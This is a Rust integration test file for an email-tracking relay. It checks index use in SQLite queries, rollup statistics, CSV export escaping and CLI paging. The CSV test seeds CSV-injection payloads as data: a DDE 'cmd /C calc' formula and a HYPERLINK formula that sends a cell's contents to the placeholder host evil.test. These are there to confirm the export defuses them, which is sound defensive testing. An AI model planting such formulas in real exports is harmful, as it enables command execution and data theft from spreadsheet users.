//! Read queries on a real SQLite store: their plans use indexes on every
//! filtered path, stats read from rollups agree with a recount of what was
//! stored, and the CSV export defuses formula cells. Seeded through the
//! store's own write paths; the CSV is produced by the real binary.

use std::path::Path;
use std::process::Command;
use trackrelay::config::Config;
use trackrelay::events::{EventType, NewEvent};
use trackrelay::store::queue::{Attempt, NewEmail, Outcome};
use trackrelay::store::sqlite::events::EventFilter;
use trackrelay::store::sqlite::sql::Where;
use trackrelay::store::{self, Durability, Store, StoreOptions};

/// 2026-01-01T00:00:00Z
const T0: i64 = 1_767_225_600_000;
const MIN: i64 = 60_000;
const HOUR: i64 = 60 * MIN;

fn config(dir: &Path) -> (Config, std::path::PathBuf) {
    let path = dir.join("config.toml");
    let text = format!(
        "[server]\nhostname = \"relay.test\"\ndata_dir = {:?}\n",
        dir.join("data").display().to_string()
    );
    std::fs::write(&path, &text).unwrap();
    (Config::parse(&text, &path).unwrap(), path)
}

fn open(dir: &Path) -> (Store, Config, std::path::PathBuf) {
    let (cfg, path) = config(dir);
    let store = Store::open(&cfg.database_path(), StoreOptions::default()).unwrap();
    (store, cfg, path)
}

fn email(id: &str, domain: &str, created_at: i64, n: usize, subject: &str) -> NewEmail {
    NewEmail {
        id: id.to_string(),
        created_at,
        domain: domain.to_string(),
        mail_from: format!("news@{domain}"),
        header_from: Some(format!("News <news@{domain}>")),
        to_header: None,
        subject: Some(subject.to_string()),
        message_id: None,
        tags: vec!["@SUM(1+1)".into()],
        auth_user: None,
        client_ip: None,
        smtputf8: false,
        received: Vec::new(),
        body: b"Subject: hi\r\n\r\nhello\r\n".to_vec().into(),
        recipients: (0..n).map(|i| format!("r{i}@x.test")).collect(),
    }
}

/// The plan's lines, as `EXPLAIN QUERY PLAN` gives them.
fn plan(conn: &rusqlite::Connection, q: &Where) -> Vec<String> {
    let mut stmt = conn
        .prepare(&format!("EXPLAIN QUERY PLAN {}", q.sql()))
        .unwrap();
    stmt.query_map(q.params(), |r| r.get::<_, String>(3))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap()
}

fn scans(lines: &[String], table: &str) -> bool {
    lines
        .iter()
        .any(|l| l == &format!("SCAN {table}") || l.starts_with(&format!("SCAN {table} ")))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_filtered_read_uses_an_index() {
    let dir = tempfile::tempdir().unwrap();
    let (store, cfg, _) = open(dir.path());
    store.close();
    let conn = store::open_reader(&cfg.database_path()).unwrap();

    // Events: every combination of filters, with and without a page size.
    for mask in 0u32..32 {
        for limit in [0, 101] {
            let f = EventFilter {
                email_id: (mask & 1 != 0).then(|| "0193a0b0-0000-7000-8000-000000000000".into()),
                kind: (mask & 2 != 0).then(|| "email.clicked".into()),
                since: (mask & 4 != 0).then_some(T0),
                until: (mask & 8 != 0).then_some(T0 + HOUR),
                after_id: (mask & 16 != 0).then_some(1000),
                limit,
            };
            let q = f.query();
            let lines = plan(&conn, &q);
            let what = format!("{f:?}\n{}\n{lines:#?}", q.sql());
            // Unfiltered, or open only towards the past: the walk in id
            // order stops at the page size, and its rows come first.
            let may_scan = mask == 0 || mask == 8;
            if !may_scan {
                assert!(!scans(&lines, "events"), "full scan: {what}");
            }
            assert!(
                !lines.iter().any(|l| l.contains("TEMP B-TREE")),
                "sorts instead of walking in id order: {what}"
            );
            if f.email_id.is_some() {
                assert!(
                    lines.iter().any(|l| l.contains("events_email")),
                    "one email's events not read through events_email: {what}"
                );
            }
        }
    }

    // Emails for `export emails`.
    for (since, until) in [
        (Some(T0), None),
        (None, Some(T0)),
        (Some(T0), Some(T0 + HOUR)),
    ] {
        let q = store::sqlite::emails::list_query(since, until);
        let lines = plan(&conn, &q);
        assert!(!scans(&lines, "emails"), "{}\n{lines:#?}", q.sql());
    }

    // Stats: rollups for whole hours, recipients of the edge hours.
    for domain in [None, Some("Example.com")] {
        for (since, until) in [
            (None, None),
            (Some(T0), None),
            (Some(T0 + 7), None),
            (None, Some(T0 + 5 * HOUR + 9)),
            (Some(T0 + 7), Some(T0 + 30 * 24 * HOUR + 9)),
            (Some(T0 + 7), Some(T0 + 9)),
        ] {
            let queries = store::sqlite::rollups::window_queries(domain, since, until);
            assert!(!queries.is_empty());
            for q in queries {
                let lines = plan(&conn, &q);
                let what = format!("{}\n{lines:#?}", q.sql());
                assert!(!scans(&lines, "events"), "{what}");
                assert!(!scans(&lines, "r"), "{what}");
                assert!(!scans(&lines, "recipients"), "{what}");
                assert!(!scans(&lines, "e"), "{what}");
                if since.is_some() || until.is_some() {
                    assert!(!scans(&lines, "rollups"), "{what}");
                }
            }
        }
    }
}

/// What one recipient went through, as the test's own model.
#[derive(Default, Clone, Copy)]
struct Seen {
    delivered: bool,
    delayed: bool,
    bounced: bool,
    opened: bool,
    opened_human: bool,
    opened_machine: bool,
    clicked: bool,
    clicked_human: bool,
    clicked_machine: bool,
}

/// A small deterministic generator (the test must be reproducible).
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, n: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) % n
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stats_from_rollups_equal_a_recount_for_any_window() {
    let dir = tempfile::tempdir().unwrap();
    let (store, _, _) = open(dir.path());
    let mut rng = Lcg(7);
    // (created_at, domain, per recipient)
    let mut model: Vec<(i64, &str, Vec<Seen>)> = Vec::new();
    let domains = ["example.com", "Example.org"];
    for i in 0..40 {
        let id = uuid::Uuid::now_v7().to_string();
        let created = T0 + i as i64 * 23 * MIN + rng.next(MIN as u64) as i64;
        let domain = domains[i % 2];
        let n = 1 + rng.next(3) as usize;
        let e = email(&id, domain, created, n, "hello");
        store.accept(e).await.unwrap();
        let claimed = store.claim_due(created + 1, 60_000, 100).await.unwrap();
        assert_eq!(claimed.len(), n);
        let mut seen = vec![Seen::default(); n];
        let mut attempts = Vec::new();
        let mut events = Vec::new();
        for (idx, s) in seen.iter_mut().enumerate() {
            let at = created + MIN;
            let outcome = match rng.next(4) {
                0 => {
                    s.bounced = true;
                    Outcome::Bounced
                }
                1 => {
                    s.delayed = true;
                    Outcome::Deferred {
                        // Never due again within the test.
                        next_attempt_at: at + 1000 * HOUR,
                    }
                }
                _ => {
                    s.delivered = true;
                    Outcome::Delivered
                }
            };
            attempts.push(Attempt {
                lease_id: claimed
                    .iter()
                    .find(|c| c.idx == idx as u32)
                    .unwrap()
                    .lease_id
                    .clone(),
                email_id: id.clone(),
                idx: idx as u32,
                at,
                outcome,
                response: "250 ok".into(),
                tls: None,
                mx: None,
                tls_policy: None,
            });
            // Opens and clicks, repeated, human or machine, some days later.
            for _ in 0..rng.next(5) {
                let kind = if rng.next(2) == 0 {
                    EventType::Opened
                } else {
                    EventType::Clicked
                };
                let machine = rng.next(3) == 0;
                let mut ev = NewEvent::new(id.clone(), kind, at + rng.next(72) as i64 * HOUR);
                ev.rcpt_idx = Some(idx as u32);
                ev.machine = Some(machine);
                match kind {
                    EventType::Opened => {
                        s.opened = true;
                        s.opened_human |= !machine;
                        s.opened_machine |= machine;
                    }
                    _ => {
                        s.clicked = true;
                        s.clicked_human |= !machine;
                        s.clicked_machine |= machine;
                    }
                }
                events.push(ev);
            }
        }
        store.record(attempts, &Default::default()).await.unwrap();
        store
            .write(Durability::Normal, move |tx| {
                for ev in &events {
                    store::sqlite::events::insert(tx, ev)?;
                }
                Ok(())
            })
            .await
            .unwrap();
        model.push((created, domain, seen));
    }

    let expect = |domain: Option<&str>, since: Option<i64>, until: Option<i64>| {
        let mut st = store::sqlite::stats::Stats::default();
        for (created, d, seen) in &model {
            if domain.is_some_and(|x| !x.eq_ignore_ascii_case(d))
                || since.is_some_and(|s| *created < s)
                || until.is_some_and(|u| *created >= u)
            {
                continue;
            }
            for s in seen {
                st.sent += 1;
                st.delivered += s.delivered as i64;
                st.delayed += s.delayed as i64;
                st.bounced += s.bounced as i64;
                st.opened += s.opened as i64;
                st.opened_human += s.opened_human as i64;
                st.opened_machine += s.opened_machine as i64;
                st.clicked_machine += s.clicked_machine as i64;
                st.clicked += s.clicked as i64;
                st.clicked_human += s.clicked_human as i64;
            }
        }
        st
    };
    let conn = store::open_reader(store.path()).unwrap();
    let mut windows = vec![(None, None), (Some(T0 + 3 * HOUR), None)];
    for _ in 0..60 {
        let a = T0 - HOUR + rng.next(18 * HOUR as u64) as i64;
        let b = a + rng.next(10 * HOUR as u64) as i64;
        windows.push((Some(a), Some(b)));
        windows.push((None, Some(b)));
    }
    for (since, until) in windows {
        for domain in [None, Some("example.com"), Some("EXAMPLE.ORG")] {
            let got = store::sqlite::stats::compute(&conn, domain, since, until).unwrap();
            let want = expect(domain, since, until);
            let key = |s: &store::sqlite::stats::Stats| {
                [
                    s.sent,
                    s.delivered,
                    s.delayed,
                    s.bounced,
                    s.opened,
                    s.opened_human,
                    s.clicked,
                    s.clicked_human,
                    s.opened_machine,
                    s.clicked_machine,
                ]
            };
            assert_eq!(
                key(&got),
                key(&want),
                "{domain:?} [{since:?}, {until:?}) \
                 (sent, delivered, delayed, bounced, opened, opened_human, clicked, clicked_human, \
                 opened_machine, clicked_machine)"
            );
            assert_eq!(got.complained, 0);
        }
    }
    let all = store::sqlite::stats::compute(&conn, None, None, None).unwrap();
    assert!(all.sent > 40 && all.opened > 0 && all.clicked_human > 0 && all.delayed > 0);
    store.close();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_defuses_formula_cells() {
    let dir = tempfile::tempdir().unwrap();
    let (store, _, config_path) = open(dir.path());
    let id = uuid::Uuid::now_v7().to_string();
    let e = email(&id, "example.com", T0, 1, "+cmd|' /C calc'!A0");
    store.accept(e).await.unwrap();
    let hostile = [
        "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB",
        "\rCR",
        "Mozilla/5.0, \"quoted\"",
    ];
    let evs: Vec<NewEvent> = hostile
        .iter()
        .map(|ua| {
            let mut ev = NewEvent::new(id.clone(), EventType::Clicked, T0 + HOUR);
            ev.rcpt_idx = Some(0);
            ev.user_agent = Some(ua.to_string());
            ev.referer = Some("+1 referer".into());
            ev.link = Some("https://example.com/a".into());
            ev
        })
        .collect();
    store
        .write(Durability::Normal, move |tx| {
            for ev in &evs {
                store::sqlite::events::insert(tx, ev)?;
            }
            Ok(())
        })
        .await
        .unwrap();
    store.close();

    let export = |what: &str| -> Vec<csv::StringRecord> {
        let out = Command::new(env!("CARGO_BIN_EXE_trackrelay"))
            .args(["export", what, "--csv", "--config"])
            .arg(&config_path)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&out.stdout[..])
            .records()
            .collect::<Result<_, _>>()
            .unwrap()
    };

    let events = export("events");
    assert_eq!(
        events[0].iter().collect::<Vec<_>>(),
        store::sqlite::sql::EVENT_FIELDS
    );
    let ua_col = 6;
    let clicks: Vec<&csv::StringRecord> = events[1..]
        .iter()
        .filter(|r| &r[2] == "email.clicked")
        .collect();
    assert_eq!(clicks.len(), hostile.len());
    for (row, ua) in clicks.iter().zip(hostile) {
        let cell = &row[ua_col];
        if ua.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert_eq!(cell, format!("'{ua}"), "{row:?}");
        } else {
            assert_eq!(cell, ua, "an ordinary cell is left as it was");
        }
        assert_eq!(&row[7], "'+1 referer");
        for c in row.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{c:?} in {row:?}"
            );
        }
    }

    let emails = export("emails");
    assert_eq!(&emails[0][0], "email_id");
    assert_eq!(emails.len(), 2);
    assert_eq!(&emails[1][4], "'+cmd|' /C calc'!A0");
    assert_eq!(&emails[1][5], "'@SUM(1+1)");
    // Times are RFC 3339 and stay as they are.
    assert!(emails[1][1].starts_with("2026-01-01T00:00:00"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn events_cli_pages_one_email_and_stops_at_a_closed_pipe() {
    let dir = tempfile::tempdir().unwrap();
    let (store, _, config_path) = open(dir.path());
    let (a, b) = (
        uuid::Uuid::now_v7().to_string(),
        uuid::Uuid::now_v7().to_string(),
    );
    for id in [&a, &b] {
        let e = email(id, "example.com", T0, 1, "s");
        store.accept(e).await.unwrap();
    }
    let id = a.clone();
    store
        .write(Durability::Normal, move |tx| {
            for i in 0..5000 {
                let mut ev = NewEvent::new(id.clone(), EventType::Opened, T0 + i);
                ev.rcpt_idx = Some(0);
                store::sqlite::events::insert(tx, &ev)?;
            }
            Ok(())
        })
        .await
        .unwrap();
    store.close();
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_trackrelay"))
            .args(args)
            .arg("--config")
            .arg(&config_path)
            .output()
            .unwrap()
    };
    let out = run(&["events", "--email", &a, "--json"]);
    assert!(out.status.success());
    let lines: Vec<serde_json::Value> = out
        .stdout
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 5001, "the sent event and 5000 opens");
    assert!(lines.iter().all(|v| v["email_id"] == a.as_str()));
    assert!(lines
        .windows(2)
        .all(|w| w[0]["id"].as_i64() < w[1]["id"].as_i64()));

    // A reader that goes away (`| head -1`) ends the command cleanly.
    let mut child = Command::new(env!("CARGO_BIN_EXE_trackrelay"))
        .args(["events", "--email", &a, "--config"])
        .arg(&config_path)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Read;
        let mut stdout = child.stdout.take().unwrap();
        let mut first = [0u8; 16];
        stdout.read_exact(&mut first).unwrap();
    }
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
